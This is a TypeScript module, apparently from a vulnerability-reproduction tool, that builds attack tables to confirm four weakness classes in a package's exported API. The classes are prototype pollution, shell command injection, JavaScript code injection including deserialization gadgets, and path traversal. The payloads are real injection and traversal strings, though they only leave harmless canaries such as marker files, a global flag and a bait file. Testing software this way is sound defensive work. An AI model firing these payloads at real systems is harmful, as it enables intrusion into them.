// SPDX-License-Identifier: Apache-2.0
import type { Shows } from '../../../domain/reproducer.ts';
import type { Weakness } from '../../../domain/weakness.ts';

/** How the exported API is called to see one weakness. All of it is text, so that a hit is replayed as it stands. */
export interface AttackTable {
  /** Statements in front of every call. */
  readonly prelude: string;
  /** Expressions; `CALLEE` stands for what is called. */
  readonly shapes: readonly string[];
  /** How one sees the shape of this number. */
  shows(index: number): Shows;
}

/** `#` stands for the number of the shape: each leaves a sign of its own. */
export function tableOf(weakness: Weakness): AttackTable | undefined {
  switch (weakness) {
    case 'CWE-1321':
      return table('', calls(POLLUTING), () => ({ kind: 'polluted' }));
    case 'CWE-78':
      return table('', calls(COMMANDS), (index) => ({ kind: 'file', path: `skymend-marker${index}` }));
    case 'CWE-94':
      return table('', calls(CODE), () => ({ kind: 'sink', sink: 'code' }));
    case 'CWE-22':
      return table(SERVING, SERVED, () => ({ kind: 'leak', text: BAIT }));
    default:
      return undefined;
  }
}

function table(prelude: string, shapes: readonly string[], shows: AttackTable['shows']): AttackTable {
  return { prelude, shapes: shapes.map((shape, index) => shape.replaceAll('#', String(index))), shows };
}

export function calls(argumentLists: readonly string[]): readonly string[] {
  return argumentLists.map((list) => `CALLEE(${list})`);
}

const OWN = `JSON.parse('{"__proto__":{"skymend#":1}}')`;
const BY_CONSTRUCTOR = `JSON.parse('{"constructor":{"prototype":{"skymend#":1}}}')`;

const POLLUTING = [
  `{}, ${OWN}`,
  `{a:{}}, JSON.parse('{"a":{"__proto__":{"skymend#":1}}}')`,
  `{}, ${BY_CONSTRUCTOR}`,
  `true, {}, ${OWN}`,
  `{}, true, ${OWN}`,
  OWN,
  `${OWN}, {}`,
  `{}, {}, ${OWN}`,
  `[{}, ${OWN}]`,
  `[${OWN}, {}]`,
  `{}, "__proto__.skymend#", 1`,
  `{}, ["__proto__","skymend#"], 1`,
  `{}, [["__proto__"],"skymend#"], 1`,
  `{}, "constructor.prototype.skymend#", 1`,
  `{}, ["constructor","prototype","skymend#"], 1`,
  `{}, "/__proto__/skymend#", 1`,
  `{}, "/constructor/prototype/skymend#", 1`,
  `{}, "__proto__[skymend#]", 1`,
  `{}, "__proto__:skymend#", 1`,
  `"__proto__.skymend#", 1, {}`,
  `"__proto__.skymend#", {}, 1`,
  `["__proto__","skymend#"], 1, {}`,
  `["__proto__","skymend#"], {}, 1`,
  `{}, 1, "__proto__.skymend#"`,
  `{}, "__proto__", "skymend#", 1`,
  `"__proto__", "skymend#", 1`,
  `"__proto__.skymend#", 1`,
  `"__proto__.skymend#=1"`,
  `"__proto__[skymend#]=1"`,
  `"constructor.prototype.skymend#=1"`,
  `"[__proto__]\\nskymend#=1"`,
  `"[__proto__]\\nskymend# = 1\\n"`,
  `"__proto__:\\n  skymend#: 1\\n"`,
  `'{"__proto__":{"skymend#":1}}'`,
  `["--__proto__.skymend#", "1"]`,
  `["--__proto__.skymend#=1"]`,
  `["--constructor.prototype.skymend#=1"]`,
  `["--foo.__proto__.skymend#=1"]`,
  `{"__proto__.skymend#":1}`,
  `{"constructor.prototype.skymend#":1}`,
  `{}, {"__proto__.skymend#":1}`,
  `{"__proto__[skymend#]":1}`,
  `{"/__proto__/skymend#":1}`,
  `[["__proto__.skymend#", 1]]`,
  `[{path:["__proto__","skymend#"], value:1}]`,
  `{}, [{op:"add", path:"/__proto__/skymend#", value:1}]`,
  `{}, [{op:"add", path:"/constructor/prototype/skymend#", value:1}]`,
  `{}, {op:"add", path:"/__proto__/skymend#", value:1}`,
  `{}, {path:["__proto__","skymend#"], value:1}`,
  `{}, "__proto__.skymend#", () => 1`,
];

const INJECTED = [
  '"x; touch skymend-marker#; x"',
  '"$(touch skymend-marker#)"',
  `"x'; touch skymend-marker#; '"`,
  `'x"; touch skymend-marker#; "'`,
];
/** What options that end up in a command are called everywhere. */
const OPTION_NAMES = JSON.stringify(
  'file path name host src dst dest input output cwd dir url branch command args options pid port'.split(' '),
);
const FOLLOWED = '() => {}';

const COMMANDS = [
  ...INJECTED.flatMap((value) => [
    value,
    `${value}, ${FOLLOWED}`,
    `[${value}]`,
    `[${value}], ${FOLLOWED}`,
    `"x", ${value}`,
    `"x", ${value}, ${FOLLOWED}`,
    `${value}, {}, ${FOLLOWED}`,
  ]),
  ...INJECTED.slice(0, 2).flatMap((value) => {
    const options = `Object.fromEntries(${OPTION_NAMES}.map((name) => [name, ${value}]))`;
    return [
      options,
      `${options}, ${FOLLOWED}`,
      `"x", ${options}, ${FOLLOWED}`,
      `"x", [${value}], ${FOLLOWED}`,
      `"x", "x", ${value}, ${FOLLOWED}`,
      `${value}, "x", "x", ${FOLLOWED}`,
      `1, ${value}, ${FOLLOWED}`,
    ];
  }),
];

const CODE = [
  `"globalThis.skymendCanary=#"`,
  `"globalThis.skymendCanary=#", {}`,
  `"(globalThis.skymendCanary=#)", {}, {}`,
  `{}, "globalThis.skymendCanary=#"`,
  '"${globalThis.skymendCanary=#}"',
  '"${globalThis.skymendCanary=#}", {}',
  '"{{globalThis.skymendCanary=#}}", {}',
  '"<%= globalThis.skymendCanary=# %>", {}',
  `"constructor.constructor(\\"globalThis.skymendCanary=#\\")()"`,
  `"this.constructor.constructor(\\"globalThis.skymendCanary=#\\")()"`,
  `"this.constructor.constructor(\\"return this\\")().skymendCanary=#"`,
  `"(function(){}).constructor(\\"globalThis.skymendCanary=#\\")()"`,
  `"({a:globalThis.skymendCanary=#})"`,
  `"{\\"a\\":globalThis.skymendCanary=#}"`,
  `"{\\"a\\":\\"_$$ND_FUNC$$_function(){globalThis.skymendCanary=#}()\\"}"`,
  `"a: !!js/function 'function(){}'\\ntoString: !!js/function 'function(){globalThis.skymendCanary=#}'"`,
  `"{ toString: !<tag:yaml.org,2002:js/function> 'function (){globalThis.skymendCanary=#}' }"`,
  `"a\\"];globalThis.skymendCanary=#;//"`,
  `"a');globalThis.skymendCanary=#;//"`,
  `"');globalThis.skymendCanary=#;('"`,
  `["globalThis.skymendCanary=#"]`,
  `() => {}, {name:"x(){};globalThis.skymendCanary=#;//"}`,
  `Object.defineProperty(function () {}, "name", {value: "x(){}})(),globalThis.skymendCanary=#,(function(){//"})`,
];

const BAIT = 'skymend-bait-content-7f3a';

/** A file where no server should read, and requests for it. */
const SERVING = `
const http = require("http"), fs = require("fs"), own = 8123;
fs.writeFileSync("/tmp/skymend-bait", "${BAIT}");
const ways = ["/" + "../".repeat(14) + "tmp/skymend-bait", "/" + "%2e%2e/".repeat(14) + "tmp/skymend-bait", "/" + "..%2f".repeat(14) + "tmp/skymend-bait"];
const ask = (port, path) => new Promise((done) => {
  const end = setTimeout(() => done(""), 800);
  const finish = (text) => { clearTimeout(end); done(text); };
  http.get({ host: "127.0.0.1", port, path, agent: false }, (answer) => {
    let text = "";
    answer.on("data", (part) => { text += part; });
    answer.on("end", () => finish(text));
    answer.on("error", () => finish(text));
  }).on("error", () => finish(""));
});
const report = (text, number) => {
  if (!text.includes("${BAIT}")) return false;
  if (globalThis.skymendLeak) globalThis.skymendLeak(number); else console.log(text);
  return true;
};
const serve = async (make, number) => {
  const ports = [own, 8080, 3000, 8000];
  const made = await make();
  const servers = [];
  if (typeof made === "function") {
    const server = http.createServer((req, res) => made(req, res, () => res.end()));
    servers.push(server);
    await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
    ports.unshift(server.address().port);
  } else if (made && typeof made.listen === "function" && !made.listening) {
    made.listen(own);
    await new Promise((ready) => setTimeout(ready, 200));
  } else {
    await new Promise((ready) => setTimeout(ready, 100));
  }
  for (const port of ports) for (const path of ways) if (report(await ask(port, path), number)) { servers.forEach((server) => server.close()); return; }
  servers.forEach((server) => server.close());
};`;

const ROOT = 'process.cwd()';

const SERVED = [
  'serve(() => CALLEE, #)',
  `serve(() => CALLEE(${ROOT}), #)`,
  'serve(() => CALLEE("."), #)',
  `serve(() => CALLEE({root:${ROOT},dir:${ROOT},path:${ROOT},base:${ROOT},directory:${ROOT},port:own}), #)`,
  `serve(() => CALLEE(${ROOT}, {}), #)`,
  `serve(() => CALLEE("/", ${ROOT}), #)`,
  'serve(() => CALLEE(own), #)',
  `serve(() => CALLEE(own, ${ROOT}), #)`,
  `serve(() => CALLEE(${ROOT}, own), #)`,
  'serve(() => CALLEE({port:own}), #)',
  'serve(() => CALLEE(), #)',
];
